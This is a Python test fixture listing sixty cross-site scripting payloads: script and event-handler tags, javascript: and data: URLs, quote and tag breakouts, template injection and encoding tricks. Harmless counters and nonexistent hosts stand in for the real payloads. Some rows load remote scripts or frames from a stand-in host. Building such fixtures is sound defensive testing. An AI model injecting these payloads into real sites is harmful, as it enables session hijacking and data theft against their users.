"""Sixty texts that run something when a page takes them for more than text. RAN becomes a call that the browser of the test counts,
HOST a host that does not exist, both with the payload's number. `careless` names the mistake of a page by which the payload runs:
web/tests/careless.mjs makes each of these mistakes, so that it is known to do so."""
import base64
import collections

Payload = collections.namedtuple('Payload', 'number name careless text')

ROWS = (
    # whole elements, where text is written as markup
    ('script', 'markup', '<script>RAN</script>'),
    ('script in odd letters', 'markup', '<ScRiPt/x >RAN</sCrIpT >'),
    ('script from elsewhere', 'markup', '<script src=//HOST/x.js></script>'),
    ('script inside a script that is taken out', 'filter', '<scr<script>ipt>RAN</scr</script>ipt>'),
    ('module', 'markup', '<script type=module>RAN</script>'),
    ('image', 'markup', '<img src=x onerror=RAN>'),
    ('image with slashes for blanks', 'markup', '<img/src="x"/onerror="RAN">'),
    ('svg', 'markup', '<svg onload=RAN>'),
    ('script in svg', 'markup', '<svg><script>RAN</script></svg>'),
    ('animation in svg', 'markup', '<svg><animate onbegin=RAN attributeName=x dur=1s></svg>'),
    ('foreign object', 'markup', '<svg><foreignObject><img src=x onerror=RAN></foreignObject></svg>'),
    ('mathml', 'markup', '<math><mtext><img src=x onerror=RAN></mtext></math>'),
    ('noscript that ends in an attribute', 'markup', '<noscript><p title="</noscript><img src=x onerror=RAN>">'),
    ('body', 'markup', '<body onload=RAN>'),
    ('details', 'markup', '<details open ontoggle=RAN>x</details>'),
    ('focus', 'markup', '<input autofocus onfocus=RAN>'),
    ('element that nobody knows', 'markup', '<xss tabindex=1 onmouseover=RAN>x</xss>'),
    ('video', 'markup', '<video><source src=x onerror=RAN></video>'),
    ('frame that is loaded', 'markup', '<iframe onload=RAN></iframe>'),
    ('end of an animation', 'markup', '<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=RAN>x</p>'),
    # documents and files of their own
    ('iframe with srcdoc', 'markup', '<iframe srcdoc="&lt;script>RAN&lt;/script>"></iframe>'),
    ('iframe of a script', 'markup', '<iframe src="javascript:RAN"></iframe>'),
    ('iframe from elsewhere', 'markup', '<iframe src=https://HOST/></iframe>'),
    ('object of a page', 'markup', '<object data="data:text/html,<script>RAN</script>"></object>'),
    ('embedded file', 'markup', '<embed src=https://HOST/x.html>'),
    ('refresh', 'markup', '<meta http-equiv=refresh content="0;url=https://HOST/">'),
    ('base', 'markup', '<base href=https://HOST/><img src=x.png>'),
    ('style sheet', 'markup', '<link rel=stylesheet href=https://HOST/x.css>'),
    ('import into a style', 'markup', '<style>@import url(https://HOST/x.css);</style>'),
    ('style of an element', 'markup', '<p style="background:url(https://HOST/x.png)">x</p>'),
    # links and forms
    ('link', 'markup', '<a href="javascript:RAN">go</a>'),
    ('link with a coded tab', 'markup', '<a href="jav&#x09;ascript:RAN">go</a>'),
    ('form', 'markup', '<form action="javascript:RAN"><button>go</button></form>'),
    ('button of a form', 'markup', '<form><button formaction="javascript:RAN">go</button></form>'),
    ('address', 'address', 'javascript:RAN'),
    ('address in odd letters', 'address', 'JaVaScRiPt:RAN'),
    ('address with a host', 'address', 'javascript://HOST/%0aRAN'),
    ('address of data', 'address', 'data:text/html,<script>RAN</script>'),
    ('address of coded data', 'address', 'data:text/html;base64,CODED'),
    # out of where a text was put
    ('out of double quotes', 'double quotes', '" autofocus onfocus=RAN x="'),
    ('out of single quotes', 'single quotes', "' autofocus onfocus='RAN"),
    ('out of no quotes', 'no quotes', 'x onmouseover=RAN'),
    ('out of an element', 'double quotes', '"><img src=x onerror=RAN>'),
    ('out of an address', 'double quotes', 'https://x/"onmouseover="RAN'),
    ('out of a script', 'script', '</script><script>RAN</script>'),
    ('out of a string', 'script', '";RAN;//'),
    ('out of a string that is escaped', 'escaped script', '\\";RAN;//'),
    ('out of a comment', 'comment', '--!><img src=x onerror=RAN>'),
    ('out of cdata', 'cdata', ']]><script>RAN</script>'),
    ('out of a title', 'title', '</title><script>RAN</script>'),
    # what templates and decoders make of a text
    ('template of braces', 'template', "{{constructor.constructor('RAN')()}}"),
    ('template of a script', 'template', '${RAN}'),
    ('coded for addresses', 'decoded', '%3Cimg src=x onerror=RAN%3E'),
    ('coded as entities', 'decoded', '&lt;img src=x onerror=RAN&gt;'),
    ('coded for scripts', 'decoded', '\\u003cimg src=x onerror=RAN\\u003e'),
    ('fullwidth', 'decoded', '\uff1cimg src=x onerror=RAN\uff1e'),
    ('markdown', 'markdown', '[go](javascript:RAN)'),
    ('name of an element for that of a setting', 'settings', '<a id=settings href="javascript:RAN">x</a>'),
    # with colours of a terminal, and from right to left
    ('between colours', 'terminal', '<im\u001b[31mg src=x onerror=RAN\u001b[0m>'),
    ('from right to left', 'markup', '\u202e<img src=x onerror=RAN>\u202c'),
)


def numbered(number, text):
    call, host = f'__ran({number})', f'ran-{number}.invalid'
    coded = base64.b64encode(f'<script>{call}</script>'.encode()).decode()
    return text.replace('RAN', call).replace('HOST', host).replace('CODED', coded)


PAYLOADS = [Payload(number, name, careless, numbered(number, text)) for number, (name, careless, text) in enumerate(ROWS, 1)]
TEXTS = [payload.text for payload in PAYLOADS]
assert len(PAYLOADS) == 60
